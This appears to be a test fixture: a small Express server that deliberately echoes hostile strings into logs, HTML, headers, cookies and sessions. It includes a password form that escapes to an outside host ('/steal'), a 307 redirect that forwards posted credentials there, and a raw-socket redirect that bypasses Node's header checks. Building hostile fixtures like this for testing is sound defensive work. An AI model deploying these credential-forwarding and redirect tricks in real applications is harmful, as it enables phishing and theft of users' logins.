// Says what HOSTILE holds (JSON, a list of texts) wherever an app can: in what it prints, its pages, its headers, its
// cookies, its addresses and its sessions. And it tries to lead its visitors to the host that ELSEWHERE names.
const { createServer } = require('node:http');
const express = require('express');
const session = require('express-session');

const texts = JSON.parse(process.env.HOSTILE);
const elsewhere = process.env.ELSEWHERE;
const all = texts.join(' ');
/** HTTP lets bytes from 0x80 on into headers, and so all of C1. */
const inHeaders = Array.from(all, (c) => (/[\t\x20-\x7e\x80-\xff]/.test(c) ? c : ' ')).join('');
const inCookies = inHeaders.replace(/[\s;,="\\]/g, '');

for (const text of texts) {
  console.log(text);
  console.error(text);
}
if (process.argv.includes('--fail')) throw new Error(all);

const page = `<title>${all}</title><main>${all}</main><a href="//${elsewhere}/logout">log out</a>
<form action="/.//${elsewhere}/steal" method="post"><input name="username"><input type="password" name="password"></form>`;

const app = express();
app.use(session({ secret: 'a secret for tests alone', resave: false, saveUninitialized: false }));
app.use(express.urlencoded({ extended: false }));
app.get('/', (req, res) => {
  console.log(all);
  Object.assign(req.session, { [all]: all, user: all, views: { [all]: [all] } });
  res.set('X-Hostile', inHeaders);
  res.append('Set-Cookie', `a${inCookies}=${inCookies}; Path=/${inCookies}; x=${inCookies}`);
  res.send(page);
});
app.get('/away', (_req, res) => {
  // Node refuses what a Location may not hold; the bytes themselves go through the socket.
  res.socket.write(
    Buffer.from(
      `HTTP/1.1 302 Found\r\nLocation: //${elsewhere}/x${inCookies}\r\nContent-Length: 0\r\n\r\n`,
      'latin1',
    ),
  );
});
app.get('/end', () => {
  setImmediate(() => {
    throw new Error(all);
  });
});
app.use((req, res) => {
  if (req.method === 'POST') return res.redirect(307, `http://${elsewhere}${req.path}`);
  console.error(new Error(all));
  return res.status(500).send(page);
});
createServer(app).listen(process.env.PORT ?? 0, '127.0.0.1');
